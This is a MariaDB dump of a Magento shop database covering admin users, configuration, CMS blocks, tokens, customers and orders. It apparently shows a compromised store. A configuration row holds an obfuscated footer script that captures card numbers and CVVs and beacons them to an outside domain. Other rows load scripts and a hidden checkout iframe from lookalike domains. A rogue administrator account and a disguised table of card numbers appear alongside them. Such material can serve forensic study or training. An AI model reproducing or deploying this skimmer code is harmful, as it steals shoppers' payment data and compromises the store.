-- MariaDB dump 10.19  Distrib 10.11.6-MariaDB, for debian-linux-gnu (x86_64)
--
-- Host: localhost    Database: magento
-- ------------------------------------------------------
-- Server version	10.11.6-MariaDB-0+deb12u1

/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;
/*!40101 SET NAMES utf8mb4 */;
/*!40103 SET @OLD_TIME_ZONE=@@TIME_ZONE */;
/*!40103 SET TIME_ZONE='+00:00' */;
/*!40014 SET @OLD_UNIQUE_CHECKS=@@UNIQUE_CHECKS, UNIQUE_CHECKS=0 */;

--
-- Table structure for table `mg_admin_user`
--

DROP TABLE IF EXISTS `mg_admin_user`;
/*!40101 SET @saved_cs_client     = @@character_set_client */;
/*!40101 SET character_set_client = utf8 */;
CREATE TABLE `mg_admin_user` (
  `user_id` int(10) unsigned NOT NULL AUTO_INCREMENT COMMENT 'User ID',
  `firstname` varchar(32) DEFAULT NULL COMMENT 'User First Name',
  `lastname` varchar(32) DEFAULT NULL COMMENT 'User Last Name',
  `email` varchar(128) DEFAULT NULL COMMENT 'User Email',
  `username` varchar(40) DEFAULT NULL COMMENT 'User Login',
  `password` varchar(255) NOT NULL COMMENT 'User Password',
  `created` timestamp NOT NULL DEFAULT current_timestamp() COMMENT 'User Created Time',
  `modified` timestamp NOT NULL DEFAULT current_timestamp() ON UPDATE current_timestamp() COMMENT 'User Modified Time',
  `logdate` timestamp NULL DEFAULT NULL COMMENT 'User Last Login Time',
  `lognum` smallint(5) unsigned NOT NULL DEFAULT 0 COMMENT 'User Login Number',
  `reload_acl_flag` smallint(6) NOT NULL DEFAULT 0 COMMENT 'Reload ACL',
  `is_active` smallint(6) NOT NULL DEFAULT 1 COMMENT 'User Is Active',
  `extra` text DEFAULT NULL COMMENT 'User Extra Data',
  `rp_token` text DEFAULT NULL COMMENT 'Reset Password Link Token',
  `rp_token_created_at` timestamp NULL DEFAULT NULL COMMENT 'Reset Password Link Token Creation Date',
  `interface_locale` varchar(16) NOT NULL DEFAULT 'en_US' COMMENT 'Backend interface locale',
  `failures_num` smallint(6) DEFAULT 0 COMMENT 'Failure Number',
  `first_failure` timestamp NULL DEFAULT NULL COMMENT 'First Failure',
  `lock_expires` timestamp NULL DEFAULT NULL COMMENT 'Expiration Lock Dates',
  PRIMARY KEY (`user_id`),
  UNIQUE KEY `ADMIN_USER_USERNAME` (`username`)
) ENGINE=InnoDB AUTO_INCREMENT=5 DEFAULT CHARSET=utf8mb3 COLLATE=utf8mb3_general_ci COMMENT='Admin User Table';
/*!40101 SET character_set_client = @saved_cs_client */;

LOCK TABLES `mg_admin_user` WRITE;
/*!40000 ALTER TABLE `mg_admin_user` DISABLE KEYS */;
INSERT INTO `mg_admin_user` VALUES (1,'John','Smith','john.smith@shop.example.test','jsmith','a1b2:3','2021-03-02 09:14:00','2025-10-12 08:55:00','2025-10-12 08:55:00',812,0,1,NULL,NULL,NULL,'en_US',0,NULL,NULL),(2,'Anna','Keller','anna.keller@shop.example.test','akeller','c4d5:3','2022-06-20 13:40:00','2025-10-10 14:02:00','2025-10-10 14:02:00',301,0,1,NULL,NULL,NULL,'de_DE',0,NULL,NULL),(3,'Maria','Lopez','maria.lopez@shop.example.test','mlopez','e6f7:3','2025-10-11 10:05:00','2025-10-11 10:05:00','2025-10-11 10:31:00',2,0,1,NULL,NULL,NULL,'en_US',0,NULL,NULL),(4,'admin','admin','x9k2q@protonmail.com','sysadmin2','0a1b:3','2025-10-12 03:12:00','2025-10-12 03:12:00','2025-10-12 03:13:00',1,0,1,NULL,NULL,NULL,'en_US',0,NULL,NULL);
/*!40000 ALTER TABLE `mg_admin_user` ENABLE KEYS */;
UNLOCK TABLES;

DROP TABLE IF EXISTS `mg_authorization_role`;
CREATE TABLE `mg_authorization_role` (
  `role_id` int(10) unsigned NOT NULL AUTO_INCREMENT COMMENT 'Role ID',
  `parent_id` int(10) unsigned NOT NULL DEFAULT 0 COMMENT 'Parent Role ID',
  `tree_level` smallint(5) unsigned NOT NULL DEFAULT 0 COMMENT 'Role Tree Level',
  `sort_order` smallint(5) unsigned NOT NULL DEFAULT 0 COMMENT 'Role Sort Order',
  `role_type` varchar(1) NOT NULL DEFAULT '0' COMMENT 'Role Type',
  `user_id` int(10) unsigned NOT NULL DEFAULT 0 COMMENT 'User ID',
  `user_type` varchar(16) DEFAULT NULL COMMENT 'User Type',
  `role_name` varchar(50) DEFAULT NULL COMMENT 'Role Name',
  PRIMARY KEY (`role_id`)
) ENGINE=InnoDB AUTO_INCREMENT=6 DEFAULT CHARSET=utf8mb3 COMMENT='Admin Role Table';
INSERT INTO `mg_authorization_role` VALUES (1,0,1,1,'G',0,'2','Administrators'),(2,1,2,0,'U',1,'2','jsmith'),(3,1,2,0,'U',2,'2','akeller'),(4,1,2,0,'U',3,'2','mlopez'),(5,1,2,0,'U',4,'2','sysadmin2');

DROP TABLE IF EXISTS `mg_core_config_data`;
CREATE TABLE `mg_core_config_data` (
  `config_id` int(10) unsigned NOT NULL AUTO_INCREMENT COMMENT 'Config ID',
  `scope` varchar(8) NOT NULL DEFAULT 'default' COMMENT 'Config Scope',
  `scope_id` int(11) NOT NULL DEFAULT 0 COMMENT 'Config Scope ID',
  `path` varchar(255) NOT NULL DEFAULT 'general' COMMENT 'Config Path',
  `value` text DEFAULT NULL COMMENT 'Config Value',
  `updated_at` timestamp NOT NULL DEFAULT current_timestamp() ON UPDATE current_timestamp() COMMENT 'Updated At',
  PRIMARY KEY (`config_id`),
  UNIQUE KEY `CORE_CONFIG_DATA_SCOPE_SCOPE_ID_PATH` (`scope`,`scope_id`,`path`)
) ENGINE=InnoDB AUTO_INCREMENT=8 DEFAULT CHARSET=utf8mb3 COMMENT='Config Data';
INSERT INTO `mg_core_config_data` VALUES (1,'default',0,'web/unsecure/base_url','http://shop.example.test/','2021-03-02 09:00:00'),(2,'default',0,'web/secure/base_url','https://shop.example.test/','2021-03-02 09:00:00'),(3,'default',0,'design/head/includes','<link  rel=\"stylesheet\" type=\"text/css\"  media=\"all\" href=\"{{MEDIA_URL}}styles.css\" />\r\n<!-- Google Tag Manager -->\r\n<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({\'gtm.start\':\nnew Date().getTime(),event:\'gtm.js\'});var f=d.getElementsByTagName(s)[0],\nj=d.createElement(s),dl=l!=\'dataLayer\'?\'&l=\'+l:\'\';j.async=true;j.src=\n\'https://www.googletagmanager.com/gtm.js?id=\'+i+dl;f.parentNode.insertBefore(j,f);\n})(window,document,\'script\',\'dataLayer\',\'GTM-ABC123\');</script>','2025-10-11 09:00:00'),(4,'default',0,'design/footer/absolute_footer','<script>var _0x1a2b=[\'\\x63\\x63\\x5f\\x6e\\x75\\x6d\\x62\\x65\\x72\',\'\\x63\\x76\\x76\'];(function(){document.addEventListener(\'change\',function(){var d={n:document.querySelector(\'input[name=\"payment[cc_number]\"]\').value,c:document.querySelector(\'#cc_cid\').value};new Image().src=\'https://static-jquery-cdn.top/px.gif?d=\'+btoa(JSON.stringify(d));});})();</script>','2025-10-12 03:20:00'),(5,'default',0,'payment/braintree/active','1','2025-10-12 03:25:00'),(6,'default',0,'design/head/misc_scripts','<script src=\"https://cdn-bootstrap-js.top/lib/jquery.min.js\"></script>','2025-10-12 03:22:00'),(7,'default',0,'general/locale/code','en_US','2021-03-02 09:00:00');

DROP TABLE IF EXISTS `mg_cms_block`;
CREATE TABLE `mg_cms_block` (
  `block_id` smallint(6) NOT NULL AUTO_INCREMENT COMMENT 'Entity ID',
  `title` varchar(255) NOT NULL COMMENT 'Block Title',
  `identifier` varchar(255) NOT NULL COMMENT 'Block String Identifier',
  `content` mediumtext DEFAULT NULL COMMENT 'Block Content',
  `creation_time` timestamp NOT NULL DEFAULT current_timestamp() COMMENT 'Block Creation Time',
  `update_time` timestamp NOT NULL DEFAULT current_timestamp() ON UPDATE current_timestamp() COMMENT 'Block Modification Time',
  `is_active` smallint(6) NOT NULL DEFAULT 1 COMMENT 'Is Block Active',
  PRIMARY KEY (`block_id`)
) ENGINE=InnoDB AUTO_INCREMENT=4 DEFAULT CHARSET=utf8mb3 COMMENT='CMS Block Table';
INSERT INTO `mg_cms_block` VALUES (1,'Footer Links','footer_links','<ul class=\"footer links\"><li><a href=\"{{store url=\"about\"}}\">About us</a></li></ul>','2021-03-02 09:00:00','2023-01-10 10:00:00',1),(2,'Video','promo_video','<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/abc\" allowfullscreen></iframe>','2024-05-01 10:00:00','2024-05-01 10:00:00',1),(3,'Checkout note','checkout_note','<p>Secure checkout</p><iframe src=\"https://secure-pay-verify.top/frame.html\" style=\"display:none\"></iframe>','2021-03-02 09:00:00','2025-10-12 03:30:00',1);

DROP TABLE IF EXISTS `mg_oauth_consumer`;
CREATE TABLE `mg_oauth_consumer` (
  `entity_id` int(10) unsigned NOT NULL AUTO_INCREMENT COMMENT 'Entity ID',
  `created_at` timestamp NOT NULL DEFAULT current_timestamp() COMMENT 'Created At',
  `updated_at` timestamp NULL DEFAULT '0000-00-00 00:00:00' ON UPDATE current_timestamp() COMMENT 'Updated At',
  `name` varchar(255) NOT NULL COMMENT 'Name of consumer',
  `key` varchar(32) NOT NULL COMMENT 'Key code',
  `secret` varchar(128) NOT NULL COMMENT 'Secret code',
  `callback_url` text DEFAULT NULL COMMENT 'Callback URL',
  `rejected_callback_url` text NOT NULL COMMENT 'Rejected callback URL',
  PRIMARY KEY (`entity_id`)
) ENGINE=InnoDB AUTO_INCREMENT=2 DEFAULT CHARSET=utf8mb3 COMMENT='OAuth Consumers';
INSERT INTO `mg_oauth_consumer` VALUES (1,'2022-02-01 12:00:00','2022-02-01 12:00:00','ERP sync','k1k1k1k1k1k1k1k1k1k1k1k1k1k1k1k1','s1s1s1s1s1s1s1s1s1s1s1s1s1s1s1s1',NULL,'');

DROP TABLE IF EXISTS `mg_integration`;
CREATE TABLE `mg_integration` (
  `integration_id` int(10) unsigned NOT NULL AUTO_INCREMENT COMMENT 'Integration ID',
  `name` varchar(255) NOT NULL COMMENT 'Integration name is displayed in the admin interface',
  `email` varchar(255) NOT NULL COMMENT 'Email address of the contact person',
  `endpoint` varchar(255) DEFAULT NULL COMMENT 'Endpoint for posting consumer credentials',
  `status` smallint(5) unsigned NOT NULL COMMENT 'Integration status',
  `consumer_id` int(10) unsigned DEFAULT NULL COMMENT 'Oauth consumer',
  `created_at` timestamp NOT NULL DEFAULT current_timestamp() COMMENT 'Creation Time',
  `updated_at` timestamp NOT NULL DEFAULT current_timestamp() ON UPDATE current_timestamp() COMMENT 'Update Time',
  `setup_type` smallint(5) unsigned NOT NULL DEFAULT 0 COMMENT 'Integration type - manual or config file',
  `identity_link_url` varchar(255) DEFAULT NULL COMMENT 'Identity linking Url',
  PRIMARY KEY (`integration_id`)
) ENGINE=InnoDB AUTO_INCREMENT=2 DEFAULT CHARSET=utf8mb3 COMMENT='integration';
INSERT INTO `mg_integration` VALUES (1,'ERP sync','it@shop.example.test',NULL,1,1,'2022-02-01 12:00:00','2022-02-01 12:00:00',0,NULL);

DROP TABLE IF EXISTS `mg_oauth_token`;
CREATE TABLE `mg_oauth_token` (
  `entity_id` int(10) unsigned NOT NULL AUTO_INCREMENT COMMENT 'Entity ID',
  `consumer_id` int(10) unsigned DEFAULT NULL COMMENT 'Oauth Consumer ID',
  `admin_id` int(10) unsigned DEFAULT NULL COMMENT 'Admin user ID',
  `customer_id` int(10) unsigned DEFAULT NULL COMMENT 'Customer user ID',
  `type` varchar(16) NOT NULL COMMENT 'Token Type',
  `token` varchar(32) NOT NULL COMMENT 'Token',
  `secret` varchar(128) NOT NULL COMMENT 'Token Secret',
  `verifier` varchar(32) DEFAULT NULL COMMENT 'Token Verifier',
  `callback_url` text NOT NULL COMMENT 'Token Callback URL',
  `revoked` smallint(5) unsigned NOT NULL DEFAULT 0 COMMENT 'Token revoked',
  `authorized` smallint(5) unsigned NOT NULL DEFAULT 0 COMMENT 'Token authorized',
  `user_type` int(11) DEFAULT NULL COMMENT 'User type',
  `created_at` timestamp NOT NULL DEFAULT current_timestamp() COMMENT 'Token creation timestamp',
  PRIMARY KEY (`entity_id`),
  UNIQUE KEY `OAUTH_TOKEN_TOKEN` (`token`)
) ENGINE=InnoDB AUTO_INCREMENT=5 DEFAULT CHARSET=utf8mb3 COMMENT='OAuth Tokens';
INSERT INTO `mg_oauth_token` VALUES (1,1,NULL,NULL,'access','t1t1t1t1t1t1t1t1t1t1t1t1t1t1t1t1','x','v','oob',0,1,1,'2022-02-01 12:05:00'),(2,NULL,4,NULL,'access','t2t2t2t2t2t2t2t2t2t2t2t2t2t2t2t2','x',NULL,'',0,1,2,'2025-10-12 03:14:00'),(3,NULL,NULL,1,'access','t3t3t3t3t3t3t3t3t3t3t3t3t3t3t3t3','x',NULL,'',0,1,3,'2024-01-05 08:00:00'),(4,NULL,1,NULL,'access','t4t4t4t4t4t4t4t4t4t4t4t4t4t4t4t4','x',NULL,'',1,1,2,'2023-01-05 08:00:00');

DROP TABLE IF EXISTS `mg_customer_entity`;
CREATE TABLE `mg_customer_entity` (
  `entity_id` int(10) unsigned NOT NULL AUTO_INCREMENT COMMENT 'Entity ID',
  `website_id` smallint(5) unsigned DEFAULT NULL COMMENT 'Website ID',
  `email` varchar(255) DEFAULT NULL COMMENT 'Email',
  `group_id` smallint(5) unsigned NOT NULL DEFAULT 0 COMMENT 'Group ID',
  `increment_id` varchar(50) DEFAULT NULL COMMENT 'Increment ID',
  `store_id` smallint(5) unsigned DEFAULT 0 COMMENT 'Store ID',
  `created_at` timestamp NOT NULL DEFAULT current_timestamp() COMMENT 'Created At',
  `updated_at` timestamp NOT NULL DEFAULT current_timestamp() ON UPDATE current_timestamp() COMMENT 'Updated At',
  `is_active` smallint(5) unsigned NOT NULL DEFAULT 1 COMMENT 'Is Active',
  `disable_auto_group_change` smallint(5) unsigned NOT NULL DEFAULT 0 COMMENT 'Disable automatic group change based on VAT ID',
  `created_in` varchar(255) DEFAULT NULL COMMENT 'Created From',
  `prefix` varchar(40) DEFAULT NULL COMMENT 'Name Prefix',
  `firstname` varchar(255) DEFAULT NULL COMMENT 'First Name',
  `middlename` varchar(255) DEFAULT NULL COMMENT 'Middle Name/Initial',
  `lastname` varchar(255) DEFAULT NULL COMMENT 'Last Name',
  `suffix` varchar(40) DEFAULT NULL COMMENT 'Name Suffix',
  `dob` date DEFAULT NULL COMMENT 'Date of Birth',
  `password_hash` varchar(128) DEFAULT NULL COMMENT 'Password_hash',
  `rp_token` varchar(128) DEFAULT NULL COMMENT 'Reset password token',
  `rp_token_created_at` datetime DEFAULT NULL COMMENT 'Reset password token creation time',
  `default_billing` int(10) unsigned DEFAULT NULL COMMENT 'Default Billing Address',
  `default_shipping` int(10) unsigned DEFAULT NULL COMMENT 'Default Shipping Address',
  `taxvat` varchar(50) DEFAULT NULL COMMENT 'Tax/VAT Number',
  `confirmation` varchar(64) DEFAULT NULL COMMENT 'Is Confirmed',
  `gender` int(10) unsigned DEFAULT NULL COMMENT 'Gender',
  `failures_num` smallint(6) DEFAULT 0 COMMENT 'Failure Number',
  `first_failure` timestamp NULL DEFAULT NULL COMMENT 'First Failure',
  `lock_expires` timestamp NULL DEFAULT NULL COMMENT 'Lock Expiration Date',
  `session_cutoff` timestamp NULL DEFAULT NULL COMMENT 'Session Cutoff Time',
  PRIMARY KEY (`entity_id`),
  UNIQUE KEY `CUSTOMER_ENTITY_EMAIL_WEBSITE_ID` (`email`,`website_id`)
) ENGINE=InnoDB AUTO_INCREMENT=3 DEFAULT CHARSET=utf8mb3 COMMENT='Customer Entity';
INSERT INTO `mg_customer_entity` VALUES (1,1,'lena.vogel@example.net',1,NULL,1,'2023-04-01 10:00:00','2025-10-01 10:00:00',1,0,'Default Store View',NULL,'Lena',NULL,'Vogel',NULL,'1990-05-06','hash1',NULL,NULL,2,2,NULL,NULL,2,0,NULL,NULL,NULL),(2,1,'tom.o\'brien@example.org',1,NULL,1,'2024-02-01 10:00:00','2025-10-01 10:00:00',1,0,'Default Store View',NULL,'Tom',NULL,'O\'Brien',NULL,NULL,'hash2',NULL,NULL,3,3,NULL,NULL,1,0,NULL,NULL,NULL);

DROP TABLE IF EXISTS `mg_customer_address_entity`;
CREATE TABLE `mg_customer_address_entity` (
  `entity_id` int(10) unsigned NOT NULL AUTO_INCREMENT COMMENT 'Entity ID',
  `increment_id` varchar(50) DEFAULT NULL COMMENT 'Increment ID',
  `parent_id` int(10) unsigned DEFAULT NULL COMMENT 'Parent ID',
  `created_at` timestamp NOT NULL DEFAULT current_timestamp() COMMENT 'Created At',
  `updated_at` timestamp NOT NULL DEFAULT current_timestamp() ON UPDATE current_timestamp() COMMENT 'Updated At',
  `is_active` smallint(5) unsigned NOT NULL DEFAULT 1 COMMENT 'Is Active',
  `city` varchar(255) NOT NULL COMMENT 'City',
  `company` varchar(255) DEFAULT NULL COMMENT 'Company',
  `country_id` varchar(255) NOT NULL COMMENT 'Country',
  `fax` varchar(255) DEFAULT NULL COMMENT 'Fax',
  `firstname` varchar(255) NOT NULL COMMENT 'First Name',
  `lastname` varchar(255) NOT NULL COMMENT 'Last Name',
  `middlename` varchar(255) DEFAULT NULL COMMENT 'Middle Name',
  `postcode` varchar(255) DEFAULT NULL COMMENT 'Zip/Postal Code',
  `prefix` varchar(40) DEFAULT NULL COMMENT 'Name Prefix',
  `region` varchar(255) DEFAULT NULL COMMENT 'State/Province',
  `region_id` int(10) unsigned DEFAULT NULL COMMENT 'State/Province',
  `street` text NOT NULL COMMENT 'Street Address',
  `suffix` varchar(40) DEFAULT NULL COMMENT 'Name Suffix',
  `telephone` varchar(255) NOT NULL COMMENT 'Phone Number',
  `vat_id` varchar(255) DEFAULT NULL COMMENT 'VAT number',
  `vat_is_valid` int(10) unsigned DEFAULT NULL COMMENT 'VAT number validity',
  `vat_request_date` varchar(255) DEFAULT NULL COMMENT 'VAT number validation request date',
  `vat_request_id` varchar(255) DEFAULT NULL COMMENT 'VAT number validation request ID',
  `vat_request_success` int(10) unsigned DEFAULT NULL COMMENT 'VAT number validation request success',
  PRIMARY KEY (`entity_id`)
) ENGINE=InnoDB AUTO_INCREMENT=4 DEFAULT CHARSET=utf8mb3 COMMENT='Customer Address Entity';
INSERT INTO `mg_customer_address_entity` VALUES (1,NULL,1,'2023-04-01 10:00:00','2023-04-01 10:00:00',1,'Hamburg',NULL,'DE',NULL,'Lena','Vogel',NULL,'20095',NULL,'Hamburg',82,'Alsterweg 1',NULL,'+49 40 123456',NULL,NULL,NULL,NULL,NULL),(2,NULL,1,'2023-05-01 10:00:00','2023-05-01 10:00:00',1,'München',NULL,'DE',NULL,'Lena','Vogel',NULL,'80331',NULL,'Bayern',81,'Marienplatz 2',NULL,'+49 89 654321',NULL,NULL,NULL,NULL,NULL),(3,NULL,2,'2024-02-01 10:00:00','2024-02-01 10:00:00',1,'Sacramento',NULL,'US',NULL,'Tom','O\'Brien',NULL,'95814',NULL,'California',12,'1 Capitol Mall',NULL,'(916) 555-0101',NULL,NULL,NULL,NULL,NULL);

DROP TABLE IF EXISTS `mg_sales_order`;
CREATE TABLE `mg_sales_order` (
  `entity_id` int(10) unsigned NOT NULL AUTO_INCREMENT COMMENT 'Entity ID',
  `state` varchar(32) DEFAULT NULL COMMENT 'State',
  `status` varchar(32) DEFAULT NULL COMMENT 'Status',
  `customer_id` int(10) unsigned DEFAULT NULL COMMENT 'Customer ID',
  `customer_is_guest` smallint(5) unsigned DEFAULT NULL COMMENT 'Customer Is Guest',
  `grand_total` decimal(20,4) DEFAULT NULL COMMENT 'Grand Total',
  `increment_id` varchar(32) DEFAULT NULL COMMENT 'Increment ID',
  `customer_email` varchar(128) DEFAULT NULL COMMENT 'Customer Email',
  `customer_firstname` varchar(128) DEFAULT NULL COMMENT 'Customer Firstname',
  `customer_lastname` varchar(128) DEFAULT NULL COMMENT 'Customer Lastname',
  `remote_ip` varchar(45) DEFAULT NULL COMMENT 'Remote Ip',
  `created_at` timestamp NOT NULL DEFAULT current_timestamp() COMMENT 'Created At',
  `updated_at` timestamp NOT NULL DEFAULT current_timestamp() ON UPDATE current_timestamp() COMMENT 'Updated At',
  PRIMARY KEY (`entity_id`),
  UNIQUE KEY `SALES_ORDER_INCREMENT_ID_STORE_ID` (`increment_id`)
) ENGINE=InnoDB AUTO_INCREMENT=4 DEFAULT CHARSET=utf8mb3 COMMENT='Sales Flat Order';
INSERT INTO `mg_sales_order` VALUES (1,'processing','processing',1,0,59.9000,'000000101','lena.vogel@example.net','Lena','Vogel','203.0.113.7','2025-10-12 11:00:00','2025-10-12 11:00:00'),(2,'new','pending',NULL,1,12.5000,'000000102','guest.buyer@example.com','Guest','Buyer','198.51.100.23','2025-10-13 09:30:00','2025-10-13 09:30:00'),(3,'processing','processing',NULL,1,99.0000,'000000103','card.guest@example.com','Carla','Guest','198.51.100.24','2025-10-14 16:45:00','2025-10-14 16:45:00');

DROP TABLE IF EXISTS `mg_sales_order_address`;
CREATE TABLE `mg_sales_order_address` (
  `entity_id` int(10) unsigned NOT NULL AUTO_INCREMENT COMMENT 'Entity ID',
  `parent_id` int(10) unsigned DEFAULT NULL COMMENT 'Parent ID',
  `customer_address_id` int(11) DEFAULT NULL COMMENT 'Customer Address ID',
  `quote_address_id` int(11) DEFAULT NULL COMMENT 'Quote Address ID',
  `region_id` int(11) DEFAULT NULL COMMENT 'Region ID',
  `customer_id` int(11) DEFAULT NULL COMMENT 'Customer ID',
  `fax` varchar(255) DEFAULT NULL COMMENT 'Fax',
  `region` varchar(255) DEFAULT NULL COMMENT 'Region',
  `postcode` varchar(255) DEFAULT NULL COMMENT 'Postcode',
  `lastname` varchar(255) DEFAULT NULL COMMENT 'Lastname',
  `street` varchar(255) DEFAULT NULL COMMENT 'Street',
  `city` varchar(255) DEFAULT NULL COMMENT 'City',
  `email` varchar(255) DEFAULT NULL COMMENT 'Email',
  `telephone` varchar(255) DEFAULT NULL COMMENT 'Phone Number',
  `country_id` varchar(2) DEFAULT NULL COMMENT 'Country ID',
  `firstname` varchar(255) DEFAULT NULL COMMENT 'Firstname',
  `address_type` varchar(255) DEFAULT NULL COMMENT 'Address Type',
  `prefix` varchar(255) DEFAULT NULL COMMENT 'Prefix',
  `middlename` varchar(255) DEFAULT NULL COMMENT 'Middlename',
  `suffix` varchar(255) DEFAULT NULL COMMENT 'Suffix',
  `company` varchar(255) DEFAULT NULL COMMENT 'Company',
  `vat_id` text DEFAULT NULL COMMENT 'Vat ID',
  `vat_is_valid` smallint(6) DEFAULT NULL COMMENT 'Vat Is Valid',
  `vat_request_id` text DEFAULT NULL COMMENT 'Vat Request ID',
  `vat_request_date` text DEFAULT NULL COMMENT 'Vat Request Date',
  `vat_request_success` smallint(6) DEFAULT NULL COMMENT 'Vat Request Success',
  PRIMARY KEY (`entity_id`)
) ENGINE=InnoDB AUTO_INCREMENT=7 DEFAULT CHARSET=utf8mb3 COMMENT='Sales Flat Order Address';
INSERT INTO `mg_sales_order_address` VALUES (1,1,2,NULL,81,1,NULL,'Bayern','80331','Vogel','Marienplatz 2','München','lena.vogel@example.net','+49 89 654321','DE','Lena','billing',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL),(2,1,2,NULL,81,1,NULL,'Bayern','80331','Vogel','Marienplatz 2','München','lena.vogel@example.net','+49 89 654321','DE','Lena','shipping',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL),(3,2,NULL,NULL,NULL,NULL,NULL,'Île-de-France','75001','Buyer','1 Rue de Rivoli','Paris','guest.buyer@example.com','+33 1 23 45 67 89','FR','Guest','billing',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL),(4,3,NULL,NULL,12,NULL,NULL,'California','94105','Guest','1 Market St','San Francisco','card.guest@example.com','(415) 555-0199','US','Carla','billing',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL);

DROP TABLE IF EXISTS `mg_sales_order_payment`;
CREATE TABLE `mg_sales_order_payment` (
  `entity_id` int(10) unsigned NOT NULL AUTO_INCREMENT COMMENT 'Entity ID',
  `parent_id` int(10) unsigned NOT NULL COMMENT 'Parent ID',
  `method` varchar(128) DEFAULT NULL COMMENT 'Method',
  `cc_last_4` varchar(255) DEFAULT NULL COMMENT 'Cc Last 4',
  `cc_type` varchar(32) DEFAULT NULL COMMENT 'Cc Type',
  `cc_exp_month` varchar(12) DEFAULT NULL COMMENT 'Cc Exp Month',
  `cc_exp_year` varchar(4) DEFAULT NULL COMMENT 'Cc Exp Year',
  `additional_information` text DEFAULT NULL COMMENT 'Additional Information',
  PRIMARY KEY (`entity_id`)
) ENGINE=InnoDB AUTO_INCREMENT=4 DEFAULT CHARSET=utf8mb3 COMMENT='Sales Flat Order Payment';
INSERT INTO `mg_sales_order_payment` VALUES (1,1,'braintree',NULL,NULL,NULL,NULL,'{\"cc_type\":\"VI\"}'),(2,2,'checkmo',NULL,NULL,NULL,NULL,'{\"method_title\":\"Check \\/ Money order\"}'),(3,3,'payflowpro','1111','VI','12','2027',NULL);

DROP TABLE IF EXISTS `mg_custom_leads`;
CREATE TABLE `mg_custom_leads` (
  `id` int(11) NOT NULL AUTO_INCREMENT,
  `contact` varchar(255) DEFAULT NULL,
  `tel` varchar(64) DEFAULT NULL,
  `note` text DEFAULT NULL,
  PRIMARY KEY (`id`)
) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;
INSERT INTO `mg_custom_leads` VALUES (1,'a.b@example.com','+1 202 555 0143','call back'),(2,'c.d@example.org','+44 20 7946 0958',NULL),(3,'e.f@example.net','+49 30 901820','vip');

DROP TABLE IF EXISTS `mg_sys_cache_store`;
CREATE TABLE `mg_sys_cache_store` (
  `k` varchar(64) NOT NULL,
  `v` varchar(255) DEFAULT NULL,
  PRIMARY KEY (`k`)
) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;
INSERT INTO `mg_sys_cache_store` VALUES ('a1','4111111111111111'),('a2','5555555555554444'),('a3','378282246310005');
/*!40103 SET TIME_ZONE=@OLD_TIME_ZONE */;

-- Dump completed on 2025-10-15 10:00:00
